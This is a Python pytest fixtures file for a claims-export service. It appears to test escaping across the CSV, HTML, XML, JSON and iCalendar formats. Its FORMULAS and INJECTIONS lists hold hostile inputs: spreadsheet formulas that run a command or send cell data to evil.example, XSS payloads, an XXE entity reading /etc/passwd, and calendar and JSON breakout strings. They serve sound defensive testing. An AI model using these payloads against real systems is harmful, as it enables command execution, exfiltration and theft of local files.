"""A desk with claims of every sort, and words that would mean something in one format or another."""

from __future__ import annotations

import uuid
from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import date
from typing import Any

import pytest

from claims.model import Status
from service import examples_exports
from service.exports import catalog
from service.exports.contract import Batch, Frame
from store.claims import ClaimView
from store.reviews import ReviewView

ROOT = "http://127.0.0.1:8000"
SCALE = ("true", "half true", "false", "unproven")
# Signs by which spreadsheets know a formula, bare and behind what they pass over.
FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@＝＋－＠−﹣﹢﹦﹫"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+WEBSERVICE("https://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '=1+1","=2+2',
    "\u2007=1+1",
    "=SUM(1;2)",
    "=1+1\r\n=2+2",
    "\tdata",
    "\rdata",
    '=IMPORTXML("https://evil.example","//a")',
    "=-@+1",
]
# What would break out of its place in HTML, XML, JSON, CSV or iCalendar, or steer who reads it.
INJECTIONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "]]>",
    "<![CDATA[x]]>",
    "<!-- x --><b>",
    "&lt;b&gt;&amp;amp;",
    "&#0;&#x1F;",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml version='1.0'?>",
    "<?php x ?>",
    "</feed>",
    "</entry><entry><id>urn:evil</id></entry>",
    "<svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '"}]}',
    '","evil":"1',
    '\\","evil":"1',
    "\\u0022,\\u0022evil\\u0022:1",
    "\\",
    "\\\\n",
    '{"@context":"https://evil.example"}',
    "@id",
    "__proto__",
    "\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:evil",
    "\r\nEND:VCALENDAR\r\n",
    "\rATTENDEE:mailto:a@evil.example",
    "\r\n ATTACH:https://evil.example",
    "x\r\n\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
    "semi;colon,comma\\back",
    ";VALUE=URI:https://evil.example",
    '";X-EVIL="1',
    "a\u2028b\u2029c",
    "a\x85b",
    "a\x01b\x02c",
    "\x07\x08\x0b\x0c",
    "\x1b[31mred\x1b[0m",
    "\x1bc",
    "\x7f\x9b31m",
    "\ufffe\uffff",
    "\u202eevil\u202c",
    "\u2066x\u2069",
    "\U0001f600\U0010ffff",
    "e\u0301" * 20,
    "{{7*7}}${7*7}<%= 7*7 %>",
    "{\r\n",
    "x\x1ey\x1fz",
]


@pytest.fixture
def filled(newsroom: Any, claim_of: Any) -> Any:
    """Two articles with four claims, on each engine."""
    newsroom.post(newsroom.article(title="Envoys, prisoners", publisher="The Sahel Note", published_at="2025-06-03"))
    newsroom.read(
        claim_of(
            "Envoys of Chad and Niger met",
            dated=date(2025, 6, 2),
            speaker="Amina Yaro",
            parties=("Chad", "Niger"),
            round=None,
            format="meeting",
        ),
        claim_of("They freed 40 captives", kind="prisoners", count=40, count_low=40, count_high=40),
    )
    newsroom.wait(hours=1)
    newsroom.post(newsroom.article(publisher="Lake Radio", published_at="2025-07-01"))
    newsroom.read(
        claim_of("met in Doha", status=Status.SCHEDULED, dated=date(2025, 7, 9), parties=("Mali", "Togo")),
        claim_of("Doha on Monday", status=Status.PROPOSED),
    )
    return newsroom


def hostile(words: str) -> ClaimView:
    """A claim that holds these words wherever words of an article can be."""
    place = {"name": words, "region": words, "country": "QA", "lat": 25.3, "lon": 51.5, "geonames_id": 1}
    return replace(
        examples_exports.claim_view(),
        id=str(uuid.uuid5(uuid.NAMESPACE_URL, words)),
        quote=words,
        date_text=words,
        speaker=words,
        via=words,
        cue=words,
        publisher=words,
        title=words,
        url=words,
        deep_link=words,
        prefix=words,
        suffix=words,
        details={"parties": [words, "Niger"], "place": place, "round": None, "format": "meeting"},
        explanation={"rule": "talks.meet", "trigger": words, "fields": {words: words}},
    )


def reviewed(claim: ClaimView, words: str, verdict: str) -> ReviewView:
    """A published review of it that holds these words."""
    known = examples_exports.review_view()
    evidence = ({"url": words, "title": words, "note": words},)
    content = replace(known.content, rationale=words, evidence=evidence, verdict=verdict)
    return replace(known, subject_id=claim.id, content=content, reviewer=words)


@pytest.fixture
def write() -> Callable[..., str]:
    """What a format makes of claims, all in one."""

    def made(suffix: str, claims: Sequence[ClaimView], *, verdict: str = "true", **frame: Any) -> str:
        (form,) = (form for form in catalog.formats() if form.suffix == suffix)
        reviews = {claim.id: [reviewed(claim, claim.quote, verdict)] for claim in claims}
        known = {"root": ROOT, "address": f"{ROOT}/v1/claims.{suffix}", "verdicts": SCALE} | frame
        return b"".join(form.write([Batch([claim], reviews) for claim in claims], Frame(**known))).decode()

    return made


@pytest.fixture(params=INJECTIONS, ids=range(len(INJECTIONS)))
def injection(request: pytest.FixtureRequest) -> ClaimView:
    return hostile(request.param)


@pytest.fixture(params=FORMULAS, ids=range(len(FORMULAS)))
def formula(request: pytest.FixtureRequest) -> ClaimView:
    return hostile(request.param)


@pytest.fixture
def claim() -> ClaimView:
    """The documentation's claim."""
    return examples_exports.claim_view()


@pytest.fixture
def formulas() -> list[ClaimView]:
    return [hostile(words) for words in FORMULAS]


@pytest.fixture
def injections() -> list[ClaimView]:
    return [hostile(words) for words in INJECTIONS]
